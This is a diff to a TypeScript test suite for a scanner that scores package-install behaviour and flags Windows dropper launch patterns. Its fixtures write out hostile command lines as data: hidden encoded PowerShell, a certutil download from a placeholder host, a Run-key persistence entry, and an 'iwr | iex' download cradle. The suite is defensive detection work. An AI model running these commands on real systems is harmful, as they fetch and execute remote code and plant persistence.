@@ -46,9 +46,34 @@ describe('PyPI setup.py behaviour', () => {
   });
 
   it('flags a failed attempt to run powershell directly (ENOENT) as a Windows payload', () => {
-    const attempt = proc(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', 'cABvAHcA'], { attribution: null, result: 'ENOENT' });
+    const attempt = proc(['powershell', '-NoProfile', '-Command', 'Get-ChildItem'], { attribution: null, result: 'ENOENT' });
     const v = scoreReport(pypiReport([pip, attempt]));
     expect(v.reasons[0]).toMatchObject({ rule: 'windows-payload-attempt', weight: 45 });
     expect(v.verdict).toBe('suspicious');
+  });
+
+  it('calls a hidden, encoded PowerShell malicious whether the exec failed (Linux) or reached the windows view stub', () => {
+    for (const over of [{ result: 'ENOENT' }, { path: '/usr/local/bin/powershell', result: '0' }]) {
+      const attempt = proc(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', 'cABvAHcA'], { attribution: null, ...over });
+      const v = scoreReport(pypiReport([pip, attempt]));
+      expect(v.verdict, over.result).toBe('malicious');
+      expect(v.reasons.map((r) => r.rule)).toEqual(expect.arrayContaining(['windows-payload.launch', 'windows-payload-attempt']));
+    }
+  });
+
+  it('takes the launch patterns of droppers (rundll32 of a DLL, certutil fetch, Run key, hidden Start-Process), not plain Windows calls', () => {
+    const launched = (argv: string[]) =>
+      scoreReport(pypiReport([pip, proc(argv, { attribution: null })]))
+        .reasons.map((r) => r.rule)
+        .includes('windows-payload.launch');
+    expect(launched(['rundll32', 'C:\\Users\\a\\AppData\\node-gyp.dll,main'])).toBe(true);
+    expect(launched(['certutil', '-urlcache', '-f', 'http://x.example/a.exe', 'a.exe'])).toBe(true);
+    expect(launched(['reg', 'add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'u', '/d', 'a.exe'])).toBe(true);
+    expect(launched(['sh', '-c', 'powershell -w hidden -c "iwr http://x.example/s | iex"'])).toBe(true);
+    expect(launched(['powershell', '-Command', "Start-Process pythonw 'C:\\Users\\a\\x.pyw'"])).toBe(true);
+    expect(launched(['cmd', '/c', 'mklink', '/J', 'a', 'b'])).toBe(false);
+    expect(launched(['powershell', '-NoProfile', '-Command', 'Get-CimInstance MSFT_VSInstance'])).toBe(false);
+    // A Linux program whose arguments read like a cradle is not a Windows launch.
+    expect(launched(['curl', '-s', 'http://x.example/iex'])).toBe(false);
   });
 });
